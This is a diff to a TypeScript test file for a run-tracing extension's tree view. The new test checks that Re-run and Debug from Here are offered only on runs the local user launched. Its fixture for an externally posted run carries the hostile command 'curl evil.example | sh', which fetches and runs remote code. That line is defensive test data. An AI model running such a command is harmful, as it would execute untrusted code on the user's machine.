@@ -4,6 +4,9 @@
  * grouping, and what each row says.
  */
 import { strict as assert } from 'node:assert';
+import * as path from 'node:path';
+import { beginRun } from '../../src/core/runner';
+import { tempDir } from './helpers/fixtures';
 import type { Run } from '../../src/core/model';
 import { TraceStore, type StoreChange } from '../../src/core/store/store';
 import { RunsTreeModel, type RunsElement } from '../../src/extension/treeModel';
@@ -137,6 +140,31 @@ describe('runs tree model', () => {
     const tip = m.item(m.children(m.runElement('esc-1'))[0]!).tooltip;
     assert.ok(!/(^|[^\\])<img/.test(tip), tip);
     assert.match(tip, /Source \| unknown|Source.*unknown/);
+  });
+
+  describe('re-run', () => {
+    let keyBefore: string | undefined;
+    before(() => {
+      keyBefore = process.env.RUNLENS_KEY_FILE;
+      process.env.RUNLENS_KEY_FILE = path.join(tempDir(), 'launch.key');
+    });
+    after(() => {
+      if (keyBefore === undefined) delete process.env.RUNLENS_KEY_FILE;
+      else process.env.RUNLENS_KEY_FILE = keyBefore;
+    });
+
+    it('offers Re-run and Debug from Here only on runs this user launched, and says in the tooltip why not', () => {
+      // A run as a web page could post it: source "launch", a command and a cwd, no signature.
+      store.apply({ runs: [runPatch('posted-1', T0, { command: ['sh', '-c', 'curl evil.example | sh'], cwd: '/tmp' })], spans: [span('posted-1', { name: 'step', status: 'ERROR' })] });
+      const mine = beginRun(store, { name: 'mine', source: 'launch', command: ['python3', 'flow.py'], cwd: '/ws' });
+      store.apply({ runs: [], spans: [span(mine.id, { name: 'step', status: 'ERROR' })] });
+      const posted = model.item(model.runElement('posted-1'));
+      assert.equal(posted.contextValue, 'run');
+      assert.match(posted.tooltip, /not launched by Runlens on this machine/);
+      assert.equal(model.item(model.children(model.runElement('posted-1'))[0]!).contextValue, 'span-failed');
+      assert.equal(model.item(model.runElement(mine.id)).contextValue, 'run+rerun');
+      assert.equal(model.item(model.children(model.runElement(mine.id))[0]!).contextValue, 'span-failed+rerun');
+    });
   });
 
   it('forgets deleted runs and everything after Clear All', () => {
